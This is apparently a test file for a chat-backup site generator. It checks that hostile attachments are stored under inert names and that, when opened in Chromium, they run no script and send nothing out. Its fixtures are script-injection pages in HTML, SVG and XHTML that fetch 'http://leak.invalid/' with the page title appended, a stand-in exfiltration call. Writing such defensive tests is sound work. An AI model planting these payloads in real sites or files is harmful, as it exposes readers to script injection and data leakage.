/**
 * No attachment can run as a page of the site: files a browser would open as an active
 * document (HTML, SVG, XHTML, XML, a type that lies) are placed under an inert name, and only
 * media whose extension and type agree are shown inline. The browser part opens each
 * attachment link of a site built from hostile attachments in Chromium (as browser_test.ts,
 * skipped without /usr/bin/chromium unless MATTERBAK_BROWSER_TEST=required) and checks that no
 * script runs and nothing leaves file://; it also opens a script page under every extension
 * the site keeps, to hold the allowlist to what Chromium does.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import puppeteer, { type Browser, type Page } from "puppeteer-core";
import { INERT_EXTENSIONS, INERT_SUFFIX, shownAs, siteFileName } from "../lib/view/attachments.ts";
import { buildSite } from "../lib/view/site.ts";
import { utf8Length } from "../lib/store/safe_name.ts";
import { type Harness, startAliceAndBob } from "./harness.ts";
import { makePng } from "./simulator/png.ts";
import { type Watch, watchPage } from "./browser_watch.ts";

const CHROMIUM = "/usr/bin/chromium";
const hasBrowser = await Deno.stat(CHROMIUM).then(() => true, () => false);
const FID = "f".repeat(26);

/** A page that, if it ever runs, shows a dialog, reads the site's search and sends it away. */
const SCRIPT_PAGE = `<!DOCTYPE html><html><head><title>ran</title>
<script src="../../../search/index.js"></script></head><body><p>hostile</p>
<script>alert("ran");fetch("http://leak.invalid/"+document.title);
new Image().src="http://leak.invalid/img";</script></body></html>`;
const SCRIPT_SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg");
fetch("http://leak.invalid/svg")</script><circle r="5"/></svg>`;
const SCRIPT_XHTML = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>
<script>alert("xhtml");fetch("http://leak.invalid/xhtml")</script></body></html>`;
const ACTIVE_TYPES = ["text/html", "application/xhtml+xml", "image/svg+xml", "text/xml"];

Deno.test("the site's name of an attachment keeps only an inert extension, and inline needs extension and type to agree", () => {
  const renamed = [
    "page.html",
    "PAGE.HTM",
    "x.shtml",
    "vector.svg",
    "doc.xhtml",
    "feed.xml",
    "saved.mht",
    "saved.mhtml",
    "mail.eml",
    "report.pdf",
    "Makefile",
    "trailing.html.",
    "space.html ",
    "photo.png.html",
  ];
  for (const name of renamed) {
    const base = `${FID}__${name}`;
    assert.equal(siteFileName(base), `${base}${INERT_SUFFIX}`, name);
  }
  for (const name of ["photo.png", "PHOTO.JPG", "clip.mp4", "report.docx", "a.txt", "x.bin"]) {
    assert.equal(siteFileName(`${FID}__${name}`), `${FID}__${name}`, name);
  }
  // A name as long as a file name can be: cut to fit with the suffix, still inert.
  const long = `${FID}__${"é".repeat(110)}.html`;
  assert.ok(utf8Length(siteFileName(long)) <= 255);
  assert.ok(siteFileName(long).endsWith(INERT_SUFFIX));
  // Its own result: what the sweep of older builds' files relies on.
  for (const name of [...renamed, "photo.png", "x.bin"]) {
    const once = siteFileName(`${FID}__${name}`);
    assert.equal(siteFileName(once), once, name);
  }

  assert.equal(shownAs("a.png", "image/png"), "image");
  assert.equal(shownAs("a.JPG", "IMAGE/JPEG"), "image");
  assert.equal(shownAs("a.webp", "image/webp; charset=binary"), "image");
  assert.equal(shownAs("a.mp4", "video/mp4"), "video");
  assert.equal(shownAs("a.mp3", "audio/mpeg"), "audio");
  // The server's type alone never decides, nor the extension alone.
  assert.equal(shownAs("photo.html.bin", "image/png"), "link");
  assert.equal(shownAs("photo.png", "text/html"), "link");
  assert.equal(shownAs("photo.png", "image/jpeg"), "link");
  assert.equal(shownAs("clip.png", "video/mp4"), "link");
  assert.equal(shownAs("vector.svg", "image/svg+xml"), "link");
  assert.equal(shownAs("vector.svg.bin", "image/svg+xml"), "link");
  assert.equal(shownAs("a.png", ""), "link");
});

/** alice posts hostile attachments (and one real picture) in eng/general, backed up. */
async function hostileBackup(): Promise<{ h: Harness; channelId: string; ids: string[] }> {
  const { h, world, me, channel } = await startAliceAndBob();
  const text = (s: string) => new TextEncoder().encode(s);
  const files = [
    { name: "page.html", bytes: text(SCRIPT_PAGE) },
    // A type that lies: the server says image/png, the name and bytes are a page.
    { name: "photo.html", bytes: text(SCRIPT_PAGE), mimeType: "image/png" },
    { name: "vector.svg", bytes: text(SCRIPT_SVG), mimeType: "image/svg+xml" },
    { name: "doc.xhtml", bytes: text(SCRIPT_XHTML), mimeType: "application/xhtml+xml" },
    { name: "feed.xml", bytes: text(SCRIPT_XHTML), mimeType: "text/xml" },
    // A page named as a picture with a picture's type: inline, where it cannot run.
    { name: "fake.png", bytes: text(SCRIPT_PAGE), mimeType: "image/png" },
    { name: "real.png", bytes: makePng(4, 3, [200, 30, 30]) },
  ].map((f) => world.addFile({ userId: me.id, channelId: channel.id, ...f }).id);
  world.addPost({ channelId: channel.id, userId: me.id, message: "files", fileIds: files });
  const run = await h.run();
  assert.equal(run.status, 0, run.err.join("\n"));
  return { h, channelId: channel.id, ids: files };
}

Deno.test("a site of hostile attachments places each under an inert name, shows inline only a picture that is one, and removes an older build's active names", async () => {
  const { h, channelId, ids } = await hostileBackup();
  try {
    const siteDir = join(h.dir, "site");
    const build = (full = false) =>
      buildSite({
        dataDir: h.dataDir,
        siteDir,
        timeZone: "UTC",
        now: () => Date.now() + 60_000,
        full,
      });
    await build();
    const filesDir = join(siteDir, "c", channelId, "files");
    const names = (await Array.fromAsync(Deno.readDir(filesDir))).map((e) => e.name).sort();
    assert.deepEqual(
      names,
      [
        `${ids[0]}__page.html.bin`,
        `${ids[1]}__photo.html.bin`,
        `${ids[2]}__vector.svg.bin`,
        `${ids[3]}__doc.xhtml.bin`,
        `${ids[4]}__feed.xml.bin`,
        `${ids[5]}__fake.png`,
        `${ids[6]}__real.png`,
      ].sort(),
    );
    const html = await Deno.readTextFile(join(siteDir, "c", channelId, "p1.html"));
    const images = [...html.matchAll(/<img src="files\/([^"]+)"/g)].map((m) => m[1]).sort();
    assert.deepEqual(images, [`${ids[5]}__fake.png`, `${ids[6]}__real.png`].sort());
    // Every link to an attachment goes to an inert name and offers the original one.
    const links = [...html.matchAll(/<a href="files\/([^"]+)"( download="([^"]*)")?/g)];
    assert.equal(links.length, 7);
    for (const [, file] of links) {
      assert.equal(siteFileName(decodeURIComponent(file as string)), decodeURIComponent(file!));
    }
    assert.ok(html.includes(`download="photo.html">photo.html</a>`));

    // A site an older build made holds the page under its own name: a full read removes it.
    const stale = join(filesDir, `${ids[0]}__page.html`);
    await Deno.writeTextFile(stale, SCRIPT_PAGE);
    await build(true);
    assert.equal(await Deno.lstat(stale).then(() => true, () => false), false);
    assert.ok((await Deno.lstat(join(filesDir, `${ids[0]}__page.html.bin`))).isFile);
  } finally {
    await h.close();
  }
});

/** A page that watches what leaves file:// and every dialog, and downloads nothing. */
async function watched(browser: Browser): Promise<{ page: Page; w: Watch }> {
  const page = await browser.newPage();
  await page.setRequestInterception(true);
  const w = watchPage(page);
  // Downloads are refused: a click that downloads leaves the page where it was.
  const cdp = await page.createCDPSession();
  await cdp.send("Browser.setDownloadBehavior", { behavior: "deny" });
  return { page, w };
}

/** What the page shows now: its URL and its document's type. */
async function shown(page: Page): Promise<{ url: string; type: string }> {
  // A script the document runs has run by then (they run as it loads).
  await new Promise((r) => setTimeout(r, 250));
  const type = String(await page.evaluate("document.contentType").catch(() => "(none)"));
  return { url: page.url(), type };
}

Deno.test({
  name: "in Chromium, clicking each attachment of hostile files opens none as a page: " +
    "no script runs, nothing leaves file://; no kept extension runs a script page",
  ignore: !hasBrowser && Deno.env.get("MATTERBAK_BROWSER_TEST") !== "required",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const { h, channelId } = await hostileBackup();
    let browser: Browser | undefined;
    try {
      const siteDir = join(h.dir, "site");
      await buildSite({ dataDir: h.dataDir, siteDir, timeZone: "UTC" });
      browser = await puppeteer.launch({
        executablePath: CHROMIUM,
        args: ["--no-sandbox", "--disable-gpu"],
        headless: true,
      });
      const channelPage = pathToFileURL(join(siteDir, "c", channelId, "p1.html")).href;
      const { page, w } = await watched(browser);
      await page.goto(channelPage);
      const links = await page.$$eval(
        "li.file a",
        (as) => as.map((a) => (a as unknown as { href: string }).href),
      );
      assert.equal(links.length, 7);
      for (const [i, href] of links.entries()) {
        await page.goto(channelPage);
        // A click, as a reader does (the link's `download` is what Chromium ignores here).
        await page.$$eval(
          "li.file a",
          (as, i) => (as[i] as unknown as { click(): void }).click(),
          i,
        );
        const now = await shown(page);
        if (now.url !== channelPage) {
          assert.equal(now.url, href);
          assert.ok(!ACTIVE_TYPES.includes(now.type), `${href} opened as ${now.type}`);
        }
        // Opened directly (a bookmark, a typed address): no page either.
        await page.goto(href).catch(() => {});
        const direct = await shown(page);
        if (direct.url === href) {
          assert.ok(!ACTIVE_TYPES.includes(direct.type), `${href} opened as ${direct.type}`);
        }
      }
      assert.deepEqual(w.dialogs, []);
      assert.deepEqual(w.outside, []);

      // Every extension the site keeps, holding a script page: shown inert or downloaded.
      const probe = join(h.dir, "probe");
      await Deno.mkdir(probe);
      for (const ext of INERT_EXTENSIONS) {
        const file = join(probe, `page.${ext}`);
        await Deno.writeTextFile(file, SCRIPT_PAGE);
        const url = pathToFileURL(file).href;
        await page.goto(url).catch(() => {});
        const now = await shown(page);
        if (now.url === url) assert.ok(!ACTIVE_TYPES.includes(now.type), `.${ext}: ${now.type}`);
      }
      assert.deepEqual(w.dialogs, []);
      assert.deepEqual(w.outside, []);
    } finally {
      await browser?.close();
      await h.close();
    }
  },
});
